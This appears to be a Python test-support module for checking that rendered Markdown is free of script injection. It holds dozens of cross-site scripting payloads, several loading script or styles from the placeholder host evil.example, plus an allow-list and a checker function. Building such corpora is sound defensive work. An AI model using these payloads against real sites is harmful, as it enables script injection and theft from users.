"""Texts that have run scripts where text was shown as HTML: known ones by kind, for whatever shows what people write.

Each would call `alert`, `confirm` or `prompt`, set `window.xss`, or load something from `evil.example`, if it ran. From
the OWASP filter-evasion list, from the tests of Markdown renderers and sanitizers, and from mutation attacks on those.
`WATCH` is the script that a page runs first to notice any of it.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

TAGS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\x0d\x0a>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>window.xss=1",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style></script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
    "<img/src='x'/onerror=window.xss=1>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\">",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onpointerover=alert(1)>over</div>",
    "<p style=animation-name:x onanimationstart=alert(1)>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<a onmouseover=\"alert(1)\">over</a>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\" autofocus onfocus=alert(1) x=\"",
    "<button popovertarget=x>x</button><xss popover id=x onbeforetoggle=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
)
FRAMES = (
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(https://evil.example/x.png)\">x</div>",
    "<math><mtext></p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><x onclick=alert(1)>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/\\evil.example/x)",
    "[x](\\\\evil.example/x)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](javascript://%0aalert(1))",
    "[x](https://evil.example\" onmouseover=\"alert(1))",
    "[x](https://example.org '\" onmouseover=alert(1) x=\"')",
    "[x](<https://example.org\"onmouseover=alert(1)>)",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x][1]\n\n[1]: <javascript:alert(1)> \"x\"",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![\"onerror=\"alert(1)](x)",
    "![x](x\"onerror=\"alert(1))",
    "[![x](https://evil.example/p.png \"onload=alert(1)\")](javascript:alert(1))",
    "[a](javascript:alert(1)//\n)",
    "```\"><img src=x onerror=alert(1)>\ncode\n```",
    "```js onmouseover=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "* <svg onload=alert(1)>",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<https://example.org/\"><script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[<img src=x onerror=alert(1)>](https://example.org)",
)
HERE = (
    "<button data-copy=x data-embed>x</button>",
    "<a href='/list' data-toggle='picked:1'>x</a>",
    "<b data-tip='<img src=x onerror=alert(1)>' tabindex=0>x</b>",
    "<form data-go='https://evil.example/'><input data-name=x autofocus></form>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "javascript:alert(1)",
    "\u202e\u2066<script>alert(1)</script>\u2069",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    ":material/x:<script>alert(1)</script>",
    ":red-background[<img src=x onerror=alert(1)>]",
    "$\\href{javascript:alert(1)}{x}$",
)
"""What is particular to these pages: the shell's own attributes, Streamlit's Markdown, templates."""

ALL = (*TAGS, *HANDLERS, *FRAMES, *MARKDOWN, *HERE)

WATCH = """
window.ran = [];
for (const name of ['alert', 'confirm', 'prompt']) window[name] = (...given) => { window.ran.push(name + ' ' + given) };
"""
"""Runs before anything of the page; afterwards `window.ran` and `window.xss` say what ran."""

ALLOWED = {
    "a": {"href", "rel", "target"}, "p": set(), "br": set(), "em": set(), "strong": set(), "s": set(), "code": set(),
    "pre": set(), "ul": set(), "ol": {"start"}, "li": set(), "blockquote": set(), "hr": set(), "h4": set(), "h5": set(),
    "h6": set(), "table": set(), "thead": set(), "tbody": set(), "tr": set(), "th": set(), "td": set(),
}  # fmt: skip
"""Every tag that shown Markdown may have, and its attributes."""


class Reader(HTMLParser):
    """Reads HTML as a list of tags with their attributes; `words` is the text between."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.words = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.tags.append(("!--", {}))

    def handle_decl(self, decl: str) -> None:
        self.tags.append(("!", {}))

    def handle_pi(self, data: str) -> None:
        self.tags.append(("?", {}))

    def unknown_decl(self, data: str) -> None:
        self.tags.append(("![", {}))


def dangers(html: str) -> list[str]:
    """What is in it that shown Markdown must not have; empty if it is safe."""
    wrong = []
    for tag, attributes in Reader(html).tags:
        if tag not in ALLOWED:
            wrong.append(f"<{tag}>")
            continue
        wrong += [f"<{tag} {name}>" for name in attributes if name not in ALLOWED[tag]]
        if tag == "a" and not re.match(r"https?://[^/]|mailto:|/(?![/\\])", attributes.get("href", ""), re.IGNORECASE):
            wrong.append(f"href {attributes.get('href')!r}")
        if tag == "a" and not {"nofollow", "ugc", "noopener"} <= set(attributes.get("rel", "").split()):
            wrong.append(f"rel {attributes.get('rel')!r}")
    return wrong
